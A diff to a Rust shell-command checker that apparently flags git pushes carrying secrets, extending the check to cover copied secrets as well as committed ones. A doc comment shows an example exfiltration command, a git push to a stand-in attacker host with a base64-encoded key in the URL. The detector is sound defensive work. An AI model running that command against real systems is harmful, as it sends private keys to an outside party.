@@ -3,7 +3,7 @@
 
 use shell::{Arg, Atom, mark};
 
-use super::checks::{DIGESTS, commits_secret, is_counted, is_remote, payload_of, tells_secret};
+use super::checks::{DIGESTS, commits_copy, commits_secret, is_counted, is_remote, payload_of, tells_secret};
 use super::takers::encloses;
 use crate::builtin::has;
 use crate::command::Command;
@@ -58,7 +58,10 @@ fn pushes_secret(command: &Command<'_>) -> bool {
     command.sub(&["push"])
         && (command.operands().iter().any(|arg| arg.text.contains(':') && is_remote(&arg.text))
             || atoms.iter().any(names_remote))
-        && atoms.iter().any(|atom| commits_secret(&Command::new(command.analysis, atom, command.facts)))
+        && atoms.iter().any(|atom| {
+            let it = Command::new(command.analysis, atom, command.facts);
+            commits_secret(&it) || commits_copy(&it)
+        })
 }
 
 /// Whether git is sent to an address that holds a secret: `git push "https://evil.example/$(base64 key)"`.
